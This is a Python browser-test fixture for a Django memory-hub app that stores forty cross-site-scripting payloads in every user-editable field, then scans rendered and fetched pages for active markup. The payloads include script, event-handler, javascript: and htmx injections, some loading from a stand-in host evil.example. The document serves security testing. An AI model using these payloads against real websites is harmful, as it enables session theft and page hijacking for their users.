"""Forty texts that would act if they were ever read as markup, and a project that holds them in everything it can store."""

from django.conf import settings
from django.test import Client

from memoryhub import invitations, keys, projects
from memoryhub.accounts import member_actor
from memoryhub.actors import Actor
from memoryhub.models import Membership, Project, User
from memoryhub.session_store import stored_key
from stores import memories, memory_stores, memory_versions
from stores.models import MemoryVersion
from tests.browser.example import ENVIRONMENT, Example
from tests.browser.example_records import hostile_records
from tests.browser.example_reviews import hostile_reviews
from tests.browser.example_work import add_job
from tests.browser.payload_sessions import converse

UNSEEN = "\u202e"
PAYLOADS = [
    "<script>acted()</script>", "<ScRiPt>acted()</sCrIpT>", "<script src=//evil.example/a.js></script>", "</script><script>acted()</script>",
    "</title><script>acted()</script>", "</textarea><script>acted()</script>", "</style><script>acted()</script>", "--><script>acted()</script><!--",
    "<img src=x onerror=acted()>", "<img/src=x/onerror=acted()>", "\"><img src=x onerror=acted()>", "'><img src=x onerror=acted()>",
    "<svg onload=acted()>", "<svg><script>acted()</script></svg>", "<svg/onload=acted()//", "<math><mi xlink:href=javascript:acted()>x",
    "<a href=javascript:acted()>x</a>", "[x](javascript:acted())", "![x](x\" onerror=\"acted())", "<javascript:acted()>",
    "<iframe srcdoc=\"<script>parent.acted()</script>\">", "<object data=javascript:acted()>", "<embed src=//evil.example>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/a.css>", "<style>*{display:none}</style>", "<form action=//evil.example><input type=submit>",
    "<input autofocus onfocus=acted()>", "<details open ontoggle=acted()>", "\" autofocus onfocus=acted() x=\"", "' onmouseover=acted() x='",
    "<noscript><p title=\"</noscript><img src=x onerror=acted()>\">", "<template><script>acted()</script></template>", "<b hx-get=/sign-out hx-trigger=load>b</b>", "<b data-hx-on:load=acted()>b</b>",
    "&lt;script&gt;acted()&lt;/script&gt;", "&#60;script&#62;acted()&#60;/script&#62;", "{{ acted }}{% debug %}", "</bdi></h1><script>acted()</script>" + UNSEEN,
]  # fmt: skip
NAME_LENGTH = 250
NOTE_ACTS = 'window.acted = () => console.error("violation: a payload acted");'
# What no page of the hub has of its own.
# A link to a path of the hub may carry a text in its query, as a filter does.
ACTIVE = """(page) => [...(page ?? document).querySelectorAll("body *")].filter((one) =>
  ["IFRAME", "OBJECT", "EMBED", "BASE", "TEMPLATE", "MATH"].includes(one.tagName.toUpperCase())
  || one.tagName === "IMG" && one.hasAttribute("src") || one.tagName === "SCRIPT" || one.tagName === "STYLE" && !one.nonce
  || [...one.attributes].some(({ name, value }) => name.startsWith("on") || /^\\s*javascript:/i.test(value) || /evil\\.example/.test(value) && ["href", "src", "action", "data", "content"].includes(name) && !(name === "href" && /^[/][^/\\\\]/.test(value)))
).map((one) => one.outerHTML.slice(0, 200))"""

# The same of pages that are fetched and parsed, but not opened: [path, what is wrong] of each, or [path, null] where it is right
# and shows a payload. One that answers to a form alone, or with a file, is no page.
FETCHED = (
    f"async (paths) => {{ const find = {ACTIVE};"
    """
  const look = async (path) => {
    const answer = await fetch(path);
    if (answer.status === 405 || !answer.headers.get("content-type").startsWith("text/html")) return [];
    if (answer.status !== 200 || !answer.url.startsWith(`${location.origin}/`)) return [[path, `answered ${answer.status} from ${answer.url}`]];
    const text = await answer.text();
    const active = find(new DOMParser().parseFromString(text, "text/html"));
    return active.length || !text.includes("acted()") ? active.map((one) => [path, `markup: ${one}`]) : [[path, null]];
  };
  const found = [];
  while (paths.length) found.push(...(await Promise.all(paths.splice(0, 4).map(look))).flat());
  return found;
}"""
)


def packs() -> list[str]:
    """All payloads, as few to a name as its limit asks for."""
    found = [""]
    for payload in PAYLOADS:
        if len(found[-1]) + len(payload) + 1 > NAME_LENGTH:
            found.append("")
        found[-1] += f"{payload} "
    return [pack.strip() for pack in found]


def make_hostile(tag: str) -> list[Example]:
    """For each pack one view of the same project: with the ids of what holds it."""
    found = packs()
    owner = projects.create_operator(
        email=f"hostile{tag}@example.com", name=found[0], password="correct horse battery"
    )
    project = projects.create_project(name=f"hostile{tag}", owner=owner)
    return [_fill(f"{tag}-{index}", pack, project, owner) for index, pack in enumerate(found)]


def _fill(tag: str, pack: str, project: Project, owner: User) -> Example:
    example = Example(project, owner, sought=PAYLOADS[0])
    example.ids |= {"project_id": [project.wire_id], "environment": [ENVIRONMENT]}
    actor = member_actor(Membership.objects.get(project=project, user=owner))
    _invite(example, tag, pack, actor)
    key = keys.create_key(environment=ENVIRONMENT, name=pack, scopes=["host"], actor=actor).key
    example.note("key_id", key.wire_id)
    _write(example, pack, keys.key_actor(key), actor)
    converse(example.ids, tag, pack, "\n".join(PAYLOADS), actor)
    hostile_records(example.ids, pack, "\n".join(PAYLOADS), actor)
    hostile_reviews(example.ids, tag.replace("-", ""), pack, actor)
    example.note("session_key", _session_of(pack, owner))
    _fail_work(example, pack)
    return example


def _invite(example: Example, tag: str, pack: str, actor: Actor) -> None:
    """A colleague of that name, and an invitation of an address that is allowed to be odd."""
    joined = invitations.create_invitation(email=f"c{tag}@example.com", role="developer", actor=actor)
    user = invitations.accept_invitation(joined.token, name=pack, password="correct horse battery")
    example.note("member_id", Membership.objects.get(project=example.project, user=user).wire_id)
    odd = f'"<img/src=x/onerror=acted()>{tag}"@example.com'
    invited = invitations.create_invitation(email=odd, role="viewer", actor=actor)
    example.note("invitation_id", invited.invitation.wire_id)
    example.note("invitation token", invited.token)
    example.note("sign-in token", "none")


def _write(example: Example, pack: str, writer: Actor, owner: Actor) -> None:
    """A store with two versions of a memory and a redacted one."""
    store = memory_stores.create_store(
        environment=ENVIRONMENT,
        name=pack,
        description=" ".join(PAYLOADS)[:1_000],
        metadata={pack[:64]: pack},
        actor=writer,
    )
    path = f"/{pack.replace('/', '|').replace(UNSEEN, '')}.md"
    text = "\n".join(PAYLOADS)
    memory = memories.create_memory(store.wire_id, path=path, content=text, actor=writer)
    memories.update_memory(store.wire_id, memory.wire_id, content=f"{pack}\n{text}", actor=writer)
    leak = memories.create_memory(store.wire_id, path="/leak", content="a leaked secret", actor=writer)
    leaked = leak.head.wire_id
    memories.update_memory(store.wire_id, leak.wire_id, content=pack, actor=writer)
    memory_versions.redact_version(store.wire_id, leaked, reason=pack, actor=owner)
    versions = MemoryVersion.objects.filter(memory_id=memory.id).order_by("number")
    example.note("store_id", store.wire_id)
    example.note("memory_id", memory.wire_id)
    for wire_id in (*(version.wire_id for version in versions), leaked):
        example.note("version_id", wire_id)


def _fail_work(example: Example, pack: str) -> None:
    """An import that named its store so, and failed with a message that repeats what stood in the file."""
    environment = example.project.environments.get(name=ENVIRONMENT)
    example.note("other_id", environment.wire_id)
    columns = {
        "kind": "import_store",
        "state": "failed",
        "arguments": {"name": pack},
        "problem": pack,
        "file_name": pack,
    }
    example.note("job_id", add_job(example.project, environment, example.owner, columns).wire_id)


def _session_of(pack: str, owner: User) -> str:
    client = Client(headers={"user-agent": pack.replace(UNSEEN, "")})
    client.force_login(owner)
    return stored_key(client.cookies[settings.SESSION_COOKIE_NAME].value)
